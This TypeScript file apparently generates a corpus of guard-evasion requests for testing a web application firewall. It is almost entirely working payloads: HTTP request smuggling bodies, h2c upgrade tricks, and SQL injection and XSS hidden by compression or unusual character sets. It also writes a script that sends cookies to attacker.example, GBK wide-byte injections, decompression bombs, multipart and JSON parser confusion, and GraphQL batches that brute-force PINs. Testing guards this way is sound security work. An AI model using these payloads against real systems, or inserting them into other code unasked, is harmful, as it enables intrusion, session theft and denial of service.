import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import type { WholeWriter } from '../../make/whole.ts';
import { named } from './named.ts';

const formType = 'application/x-www-form-urlencoded';

/** Bodies that are framed, packed or encoded so that a guard reads another thing than the application. */
export function writeFramed(write: WholeWriter): void {
  writeSmuggled(write);
  writePacked(write);
  writeParts(write);
  writeObjects(write);
}

/** A second request inside the first. */
function writeSmuggled(write: WholeWriter): void {
  const technique = named(write, 'protocol');
  technique('a request in the body');
  for (const body of [
    '0\r\n\r\nGET /admin/delete?u=carlos HTTP/1.1\r\nHost: localhost\r\nX-Pad: ',
    '5\r\nhello\r\n0\r\n\r\nPOST /comment HTTP/1.1\r\nHost: app.example.org\r\nContent-Length: 600\r\n\r\nbody=',
    '0\r\n\r\nGET http://attacker.example/ HTTP/1.1\r\nFoo: x',
    'GET /internal/metrics HTTP/1.1\r\nHost: localhost\r\n\r\n',
  ])
    write.send('/static/site.css', formType, body);
  technique('framing under other names');
  for (const head of [
    { 'x-transfer-encoding': 'chunked' },
    { 'content-encoding': 'chunked' },
    { 'transfer-encoding-x': 'identity' },
    { te: 'chunked, trailers' },
    { 'x-content-length': '4', content_length: '0' },
  ])
    write.send('/submit', formType, '1\r\nZ\r\n0\r\n\r\nGET /hidden HTTP/1.1\r\nX: ', { headers: head });
  technique('a change of protocol');
  write.get('/', { upgrade: 'h2c', 'http2-settings': 'AAMAAABkAAQCAAAAAAIAAAAA' });
  write.get('/admin', { upgrade: 'h2c, websocket', 'http2-settings': 'AAMAAABkAAQAoAAAAAIAAAAA' });
  write.get('/ws', {
    upgrade: 'websocket',
    'sec-websocket-version': '1337',
    'sec-websocket-key': 'nf6dB8Pb/BLinZ7UexUXHg==',
  });
  write.get('/api', { upgrade: 'TLS/1.0, HTTP/1.1', 'proxy-connection': 'upgrade, x-forwarded-for' });
  technique('a body where none belongs');
  write.send('/reports?id=1', formType, 'id=1 UNION SELECT password FROM users', { method: 'GET' });
  write.send('/cached/page', 'application/json', '{"x":"<script>alert(1)</script>"}', { method: 'GET' });
  write.send('/ping', 'text/plain', 'GET /admin HTTP/1.1\r\nHost: a\r\n\r\n', { method: 'OPTIONS' });
  write.send('/', formType, 'POST /transfer HTTP/1.1\r\nHost: bank.example\r\nX: ', {
    method: 'HEAD',
    headers: { expect: '100-continue' },
  });
  technique('expectations');
  for (const expect of ['y 100-continue', '100-continue, x', '"><script>alert(1)</script>', '200-ok'])
    write.send('/form', formType, '0\r\n\r\nGET /x HTTP/1.1\r\nA: ', { headers: { expect } });
}

/** Bodies packed or written in another character set. */
function writePacked(write: WholeWriter): void {
  const technique = named(write, 'protocol');
  const attack = "user=admin'+or+'1'='1'--+&pass=x";
  const script = 'comment=<script>document.location="//attacker.example/"+document.cookie</script>';
  technique('packed bodies');
  write.send('/login', formType, gzipSync(attack), { headers: { 'content-encoding': 'gzip' } });
  write.send('/login', formType, deflateSync(attack), { headers: { 'content-encoding': 'deflate' } });
  write.send('/guestbook', formType, brotliCompressSync(script), { headers: { 'content-encoding': 'br' } });
  write.send('/guestbook', formType, gzipSync(gzipSync(script)), { headers: { 'content-encoding': 'gzip, gzip' } });
  write.send('/guestbook', formType, gzipSync(script), { headers: { 'content-encoding': 'x-gzip' } });
  technique('bodies that unpack without end');
  for (const size of [8_000_000, 12_000_000, 20_000_000, 16_000_000])
    write.send(
      '/api/import',
      'application/json',
      gzipSync(Buffer.alloc(size, size === 20_000_000 ? 0x5b : 0x20), { level: 9 }),
      { headers: { 'content-encoding': 'gzip' } },
    );
  technique('a character set that hides');
  write.send('/login', `${formType}; charset=utf-16`, Buffer.from(attack, 'utf16le'));
  write.send('/guestbook', `${formType}; charset=utf-7`, 'comment=+ADw-script+AD4-alert(1)+ADw-/script+AD4-');
  write.send(
    '/guestbook',
    `${formType}; charset=utf-32`,
    Buffer.from(Array.from(script, char => [0, 0, 0, char.charCodeAt(0)]).flat()),
  );
  write.send('/login', `${formType}; charset=ibm500`, Buffer.from('a4a285997ea77d409699407d817d7e7d81', 'hex'));
  write.send('/search', `${formType}; charset=shift_jis`, 'q=%81%27%20or%201=1--&_charset_=utf-7');
  write.send(
    '/api/find',
    'application/json; charset=utf-16le',
    Buffer.from(`{"q":"' union select card from wallets--"}`, 'utf16le'),
  );
  technique('signs that become others');
  for (const text of [
    '＜script＞alert(1)＜/script＞',
    'ʼ or 1=1--',
    '‹img src=x onerror=alert(1)›',
    '＇ ＵＮＩＯＮ ＳＥＬＥＣＴ pass',
    '․․／․․／etc／passwd',
    'ſcript:alert(1)//<ſvg onload=alert(1)>',
  ])
    write.send('/search', formType, `q=${encodeURIComponent(text)}&legacy=1`);
  technique('quotes swallowed by wide signs');
  for (const query of [
    'id=%bf%27%20or%201=1%23',
    'id=%e5%5c%27%20union%20select%201,2%23',
    'id=%df%27%20and%20sleep(5)--%20',
    'name=%a1%27%29%20or%201=1--%20',
  ])
    write.get(`/gbk/show.php?${query}`, { 'accept-charset': 'gbk' });
}

/** Multipart bodies that two readers take apart in two ways. */
function writeParts(write: WholeWriter): void {
  const technique = named(write, 'protocol');
  const part = (mark: string, head: string, text: string): string =>
    `--${mark}\r\nContent-Disposition: form-data; ${head}\r\n\r\n${text}\r\n`;
  const evil = "1' union select secret from keys--";
  technique('two borders');
  write.send(
    '/multi',
    'multipart/form-data; boundary=aa; boundary=bb',
    `${part('aa', 'name="x"', 'ok')}--aa--\r\n${part('bb', 'name="id"', evil)}--bb--\r\n`,
  );
  write.send('/multi', 'multipart/form-data; boundary=aa, boundary=bb', `${part('bb', 'name="id"', evil)}--bb--\r\n`);
  write.send(
    '/multi',
    "multipart/form-data; boundary=aa; boundary*=UTF-8''bb",
    `${part('bb', 'name="id"', evil)}--bb--\r\n`,
  );
  write.send(
    '/multi',
    'multipart/form-data; boundary*0=a; boundary*1=b; boundary=cc',
    `${part('ab', 'name="id"', evil)}--ab--\r\n`,
  );
  technique('a border in quotes or blanks');
  write.send('/multi', 'multipart/form-data; boundary="a b"; x="', `${part('a b', 'name="id"', evil)}--a b--\r\n`);
  write.send('/multi', 'multipart/form-data; boundary =cc', `${part('cc', 'name="id"', evil)}--cc--\r\n`);
  write.send('/multi', 'multipart/form-data; boundary=cc\t;', `${part('cc', 'name="id"', evil)}--cc--\r\n`);
  write.send('/multi', 'multipart/form-data;boundary="cc', `${part('cc', 'name="id"', evil)}--cc--\r\n`);
  technique('before, after and never closed');
  write.send(
    '/multi',
    'multipart/form-data; boundary=dd',
    `${part('dd', 'name="x"', '1')}--dd--\r\n${part('dd', 'name="id"', evil)}`,
  );
  write.send(
    '/multi',
    'multipart/form-data; boundary=dd',
    `id=${encodeURIComponent(evil)}&\r\n${part('dd', 'name="x"', '1')}--dd--`,
  );
  write.send('/multi', 'multipart/form-data; boundary=dd', part('dd', 'name="id"', '<script>alert(1)</script>'));
  write.send(
    '/multi',
    'multipart/form-data; boundary=dd',
    `${part('dd', 'name="id"', evil)}--dd--`.replaceAll('\r\n', '\n'),
  );
  technique('two names for a part');
  for (const head of [
    'name="ok"; name="id"',
    'name="ok"; name*=utf-8\'\'id',
    'name="id"; filename=""',
    'name="i"d"',
    'name=id; name="ok',
  ])
    write.send('/multi', 'multipart/form-data; boundary=ee', `${part('ee', head, evil)}--ee--\r\n`);
  technique('one kind said, another sent');
  write.send('/login', 'text/plain', '{"user":{"$ne":null},"pass":{"$ne":null}}');
  write.send('/login', 'application/json', `user=admin'--&pass=1`);
  write.send('/login', 'application/x-www-form-urlencoded, application/json', `{"user":"admin' or 1=1--"}`);
  write.send('/api', 'multipart/form-data; boundary=x, application/json', '{"q":"<img src=x onerror=alert(1)>"}');
  write.send('/login', 'image/png; a="application/json"', `{"user":"x' or 'a'='a"}`);
  write.send('/api', 'application/xml;/json', `{"id":"1 union select 1,2"}`);
}

/** JSON and GraphQL that differ from reader to reader, or wear out. */
function writeObjects(write: WholeWriter): void {
  const technique = named(write, 'protocol');
  technique('keys twice with two values');
  for (const text of [
    '{"role":"viewer","role":"owner"}',
    '{"amount":10,"to":"shop","amount":-10000}',
    '{"user":"guest","us\\u0065r":"admin"}',
    '{"qty":1,"qty\\u0000":-5,"qty":0}',
    '{"id":7,"ID":1,"Id":"1 or 1=1"}',
  ])
    write.json('/api/orders', text);
  technique('JSON that is none');
  for (const text of [
    '{"q":"a"/*,"q":"\' or 1=1--"*/}',
    "{'admin':true,role:'owner',}",
    '{"n":1e999999,"m":-0,"x":NaN,"y":0x41}',
    '\ufeff{"isAdmin":true}//{"isAdmin":false}',
    '{"id":"\\ud800\\u0027 or 1=1--"}',
    '{"a":1}{"role":"owner"}',
    '{"role":"viewer"}\u0000{"role":"owner"}',
  ])
    write.json('/api/orders', text);
  technique('depth and width that wear out');
  write.json('/api/tree', `${'['.repeat(20000)}${']'.repeat(20000)}`);
  write.json('/api/tree', `${'{"a":'.repeat(8000)}1${'}'.repeat(8000)}`);
  write.send('/search', formType, Array.from({ length: 4000 }, (_, at) => `k${at}[]=`).join('&'));
  write.get(`/find?${'a[b]'.concat('[c]'.repeat(900))}=1`);
  technique('questions of GraphQL that wear out');
  write.json('/graphql', {
    query: `{${Array.from({ length: 900 }, (_, at) => `a${at}:login(pin:"${1000 + at}"){token}`).join(' ')}}`,
  });
  write.json(
    '/graphql',
    Array.from({ length: 400 }, (_, at) => ({ query: `mutation{verify(code:"${100000 + at}"){ok}}` })),
  );
  write.json('/graphql', { query: `{${'friends{'.repeat(300)}id${'}'.repeat(300)}}` });
  write.json('/graphql', { query: `query{me ${'@include(if:true) '.repeat(1500)}{id}}` });
  write.json('/graphql', { query: 'query{...A} fragment A on Query{...B} fragment B on Query{...A}' });
}
